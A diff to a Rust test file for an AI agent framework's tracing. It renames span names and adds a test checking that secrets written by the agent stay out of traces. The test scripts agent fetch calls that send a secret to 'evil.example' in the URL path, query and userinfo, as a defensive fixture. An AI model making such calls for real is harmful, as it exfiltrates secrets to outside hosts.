@@ -70,6 +70,13 @@ fn strict_spans(trace: &Value) -> Vec<Value> {
                 }
                 (kind, Value::String(_)) if kind == "stringValue" => {}
                 (kind, Value::Bool(_)) if kind == "boolValue" => {}
+                (kind, Value::Object(array)) if kind == "arrayValue" => {
+                    keys(&Value::Object(array.clone()), &["values"]);
+                    for value in array["values"].as_array().unwrap() {
+                        keys(value, &["stringValue"]);
+                        assert!(value["stringValue"].is_string());
+                    }
+                }
                 other => panic!("{other:?}"),
             }
         }
@@ -189,7 +196,8 @@ fn the_canonical_trace_holds_what_it_should() {
     let spans = strict_spans(&trace);
     let mut counts: HashMap<&str, usize> = HashMap::new();
     for span in &spans {
-        *counts.entry(span["name"].as_str().unwrap()).or_default() += 1;
+        let operation = span["name"].as_str().unwrap().split(' ').next().unwrap();
+        *counts.entry(operation).or_default() += 1;
         if span["name"] == "policy_check" {
             assert_eq!(attribute(span, "agent.policy.decision").unwrap(), "allow");
         }
@@ -199,21 +207,63 @@ fn the_canonical_trace_holds_what_it_should() {
         assert!(span["status"].is_null(), "nothing failed");
     }
     let expected = [
-        ("agent_run", 1),
+        ("invoke_agent", 1),
         ("agent_step", 5),
-        ("llm_call", 5),
-        ("tool_call", 4),
+        ("chat", 5),
+        ("execute_tool", 4),
         ("policy_check", 4),
         ("retry_attempt", 4),
     ];
     assert_eq!(counts, HashMap::from(expected));
     let root = spans.last().unwrap();
+    assert_eq!(root["name"], "invoke_agent gatedrun");
     assert_eq!(attribute(root, "agent.terminal_reason").unwrap(), "final_answer");
+    assert!(spans.iter().any(|span| span["name"] == "execute_tool search"));
+    let chats: Vec<&Value> =
+        spans.iter().filter(|span| span["name"].as_str().unwrap().starts_with("chat ")).collect();
+    let reason = |span: &&Value| {
+        attribute(span, "gen_ai.response.finish_reasons").unwrap()["values"][0]["stringValue"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    let reasons: Vec<String> = chats.iter().map(reason).collect();
+    assert_eq!(reasons, ["tool_calls", "tool_calls", "tool_calls", "tool_calls", "stop"]);
     // A trace carries no content by default.
     let text = trace.to_string();
     for content in ["inspection interval", "Team Cobalt", "I look for"] {
         assert!(!text.contains(content), "{content:?} is in the trace");
     }
+}
+
+/// Whatever the agent writes, and wherever a rule or a tool quotes it, a trace does not repeat it.
+#[test]
+fn a_trace_quotes_nothing_that_the_agent_wrote() {
+    const SECRET: &str = "s3cr3t-7f1d";
+    let folder = Folder::lenient_project();
+    let call = |tool: &str, arguments: Value| json!({"tool": tool, "arguments": arguments});
+    let denied = json!([
+        {"text": SECRET, "calls": [
+            call("fetch", json!({"url": format!("https://evil.example/{SECRET}?d={SECRET}#{SECRET}")})),
+            call("fetch", json!({"url": format!("https://{SECRET}@evil.example/")})),
+            call("fetch", json!({"url": format!("not a URL {SECRET}")})),
+            call("fetch", json!({"url": format!("https://fixtures.local/{SECRET}")})),
+            call("search", json!({"query": {"quoted": SECRET}})),
+            call("search", json!({"query": "pump", SECRET: 1})),
+            call("search", json!({"query": SECRET})),
+            call("write", json!({"path": "work/a.md", "content": SECRET})),
+            call("summarize", json!({"text": SECRET, "max_sentences": 1})),
+        ]},
+        {"final_answer": SECRET}
+    ]);
+    let inputs = scripted(&folder, denied, &[]);
+    let made = run(&inputs, &folder.path().join("work")).0;
+    assert!(String::from_utf8(made.state).unwrap().contains(SECRET));
+    let trace = String::from_utf8(made.trace).unwrap();
+    strict_spans(&serde_json::from_str(&trace).unwrap());
+    assert!(trace.contains("https://evil.example\""), "the origin is shown");
+    let quoted: Vec<&str> = trace.lines().filter(|line| line.contains(SECRET)).collect();
+    assert!(quoted.is_empty(), "{quoted:#?}");
 }
 
 #[test]
@@ -231,7 +281,8 @@ fn an_added_event_changes_no_other_spans_id() {
         strict_spans(&trace)
             .iter()
             .filter(|span| {
-                matches!(span["name"].as_str(), Some("agent_step" | "llm_call" | "agent_run"))
+                let name = span["name"].as_str().unwrap();
+                ["agent_step", "chat ", "invoke_agent "].iter().any(|start| name.starts_with(start))
             })
             .map(|span| {
                 let step =
@@ -332,7 +383,10 @@ fn all_parts_of_a_run_tell_one_story() {
             "{run}"
         );
         let attempts = spans.iter().filter(|s| s["name"] == "retry_attempt").count();
-        let tools = spans.iter().filter(|s| s["name"] == "tool_call").count();
+        let tools = spans
+            .iter()
+            .filter(|s| s["name"].as_str().unwrap().starts_with("execute_tool "))
+            .count();
         assert_eq!(outcome["attempts"], attempts, "{run}");
         assert_eq!(outcome["retries"], attempts - tools, "{run}");
     }
